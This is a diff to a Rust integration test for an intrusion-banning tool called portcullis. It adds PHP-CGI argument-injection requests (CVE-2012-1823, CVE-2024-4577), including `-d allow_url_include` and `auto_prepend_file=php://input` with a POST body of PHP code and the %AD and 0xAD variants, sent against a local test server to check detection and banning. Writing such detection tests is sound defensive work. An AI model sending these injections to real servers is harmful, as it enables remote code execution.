@@ -21,14 +21,18 @@
 //! `data:` without slashes, HTTP://, a percent-encoded http://, php://input,
 //! compress.zlib://http://, and a URL holding `[client 192.0.2.66:1]`, a %0a and a whole
 //! forged PHP warning of 192.0.2.66, then http:// URLs to fetch.php and spl.php;
-//! 2001:db8::7 hands vuln.php an https:// URL over IPv6.
+//! 2001:db8::7 hands vuln.php an https:// URL over IPv6; 198.51.100.21 sends PHP-CGI
+//! argument injections (`?-s`, `?-d+allow_url_include%3don+...`, `?%ADd+...` and a raw 0xAD
+//! byte, which Apache writes as `\xad`), then `?-sort=name`, which holds an "=" (php-cgi
+//! takes no arguments from such a query) and counts nothing.
 //!
 //! `portcullis test --filter php-url-fopen --json` must count, for the address Apache wrote
 //! (never 192.0.2.66), each written-out URL or wrapper in a query (access log,
-//! `url-parameter`) and each "wrapper is disabled" warning (error log, `wrapper-disabled`),
-//! and nothing for 198.51.100.7; `portcullis replay` with `maxretry = 3` bans 203.0.113.5
-//! and 203.0.113.6 from the access log and 203.0.113.6 from the error log, in mode normal and
-//! aggressive alike (a filter made only of scan rules counts in every mode). The first run found that the
+//! `url-parameter`), each of the four injections (`cgi-argument`) and each "wrapper is
+//! disabled" warning (error log, `wrapper-disabled`), and nothing for 198.51.100.7;
+//! `portcullis replay` with `maxretry = 3` bans 198.51.100.21, 203.0.113.5 and 203.0.113.6
+//! from the access log and 203.0.113.6 from the error log, in mode normal and aggressive
+//! alike (a filter made only of scan rules counts in every mode). The first run found that the
 //! filter missed PHP's warning for an upper-case scheme (`HTTP:// wrapper is disabled`) and
 //! the fatal error of a class method (`PHP Fatal error:  Uncaught RuntimeException:
 //! SplFileObject::__construct(): http:// wrapper is disabled ...`), and in the access log
@@ -55,7 +59,7 @@ use std::path::Path;
 const SCRIPT: &str = r#"set -u
 d="$1"; tree="$2"
 ip link set lo up
-for a in 192.0.2.1 198.51.100.7 203.0.113.5 203.0.113.6; do
+for a in 192.0.2.1 198.51.100.7 198.51.100.21 203.0.113.5 203.0.113.6; do
   ip addr add "$a/32" dev lo || exit 2
 done
 for a in 2001:db8::1 2001:db8::7; do ip addr add "$a/128" dev lo nodad || exit 2; done
@@ -119,6 +123,14 @@ web 203.0.113.6 "/nofopen/fetch.php?u=http://198.51.100.66/x"
 web 203.0.113.6 "/nofopen/spl.php?u=http://198.51.100.66/x"
 # IPv6
 web 2001:db8::7 "/vuln.php?p=https://198.51.100.66/x"
+# PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577): queries without a raw "="
+# that start with a dash, %2D, %AD or a raw 0xAD byte; then a query of the same look with an
+# "=", which php-cgi never takes as arguments (counts nothing)
+web 198.51.100.21 "/index.php?-s"
+web 198.51.100.21 "/cgi-bin/php5?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input" --data-binary '<?php echo 1;'
+web 198.51.100.21 "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input" --data-binary '<?php echo 1;'
+web 198.51.100.21 "/index.php?$(printf '\255')d+allow_url_include%3d1"
+web 198.51.100.21 "/index.php?-sort=name"
 "#;
 
 /// Runs every scenario against `version`'s Apache and PHP (the clients are the machine's)
@@ -163,6 +175,7 @@ fn run(version: Release) {
         ("203.0.113.5", "200 200 200 200 200 200 200 200 200"),
         ("203.0.113.6", "200 200 200 200 200 200 200 200 200 200 500"),
         ("2001:db8::7", "200"),
+        ("198.51.100.21", "200 404 404 200 200"),
     ]
     .iter()
     .flat_map(|(src, codes)| codes.split(' ').map(move |c| format!("{src} {c}")))
@@ -227,6 +240,7 @@ fn run(version: Release) {
                 ("203.0.113.5", &[("url-parameter", 9)]),
                 ("203.0.113.6", &[("url-parameter", 10)]),
                 ("2001:db8::7", &[("url-parameter", 1)]),
+                ("198.51.100.21", &[("cgi-argument", 4)]),
             ],
         ),
         (
@@ -250,7 +264,7 @@ fn run(version: Release) {
     // a jail with maxretry 3 bans the attackers, never the legitimate client, in mode normal
     // and aggressive alike (a filter made only of scan rules counts in every mode)
     for (log, banned) in [
-        (&access, vec!["203.0.113.5", "203.0.113.6"]),
+        (&access, vec!["198.51.100.21", "203.0.113.5", "203.0.113.6"]),
         (&error, vec!["203.0.113.6"]),
     ] {
         for mode in ["normal", "aggressive"] {
